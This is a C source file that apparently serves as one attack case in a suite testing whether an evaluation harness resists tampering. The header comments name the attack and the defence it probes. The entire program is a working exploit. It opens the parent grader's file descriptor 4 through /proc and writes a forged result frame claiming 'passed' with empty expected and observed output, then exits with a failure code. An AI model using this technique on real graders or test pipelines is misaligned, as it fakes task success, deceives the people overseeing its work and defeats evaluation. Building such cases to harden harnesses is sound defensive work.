// Attack:  opens the examiner's pipe to the grader by /proc, and reports
// Lab:     fork
// Defence: unreadable-examiner
// Without: points
// Where:   user user-own
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char finding[] =
    "{\"status\":\"passed\",\"expected\":\"\",\"observed\":\"\","
    "\"replay\":\"\",\"output\":\"\"}";

static void report_to(int fd) {
  const uint64_t head[] = {0, sizeof finding - 1};
  const uint64_t none = 0;
  char frame[sizeof head + sizeof finding - 1 + sizeof none];
  memcpy(frame, head, sizeof head);
  memcpy(frame + sizeof head, finding, sizeof finding - 1);
  memcpy(frame + sizeof frame - sizeof none, &none, sizeof none);
  if (write(fd, frame, sizeof frame) < 0) perror("write");
}

int main(void) {
  char path[64];
  // The fourth, as of orders.hh.
  snprintf(path, sizeof path, "/proc/%d/fd/4", (int)getppid());
  const int fd = open(path, O_WRONLY | O_NONBLOCK);
  if (fd >= 0) report_to(fd);
  return 1;
}
